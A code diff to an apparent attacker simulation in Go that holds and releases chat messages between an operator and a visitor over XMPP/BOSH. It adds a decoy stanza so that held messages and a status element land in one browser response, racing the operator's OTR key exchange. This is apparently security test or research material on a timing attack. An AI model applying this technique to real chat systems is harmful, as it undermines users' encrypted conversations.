@@ -355,7 +355,11 @@ func (a *Attacker) HoldOperator(hold func(otr.Info) bool) {
 
 // ReleaseOperator stops holding and delivers what was held, in order.
 // With status set, a status element of that state goes in the same write,
-// right behind the last held body (a transfer racing the operator's AKE).
+// right behind the last held body (a transfer racing the operator's AKE),
+// and a decoy stanza the widget ignores goes first: a BOSH server answers
+// the request it holds with the first stanza at once and keeps what
+// follows for the client's next request, so the held bodies and the status
+// then reach the browser in one response, handled in one go.
 func (a *Attacker) ReleaseOperator(ctx context.Context, status string) error {
 	a.mu.Lock()
 	defer a.mu.Unlock()
@@ -363,6 +367,9 @@ func (a *Attacker) ReleaseOperator(ctx context.Context, status string) error {
 	held := a.held
 	a.held = nil
 	var raw strings.Builder
+	if status != "" {
+		raw.WriteString("<message type='chat' from='" + esc(a.cfg.Domain) + "' to='" + esc(a.visitor) + "'><active xmlns='http://jabber.org/protocol/chatstates'/></message>")
+	}
 	for _, body := range held {
 		raw.WriteString("<message type='chat' from='" + esc(a.skin) + "' to='" + esc(a.visitor) + "'><body>" + esc(body) + "</body></message>")
 	}
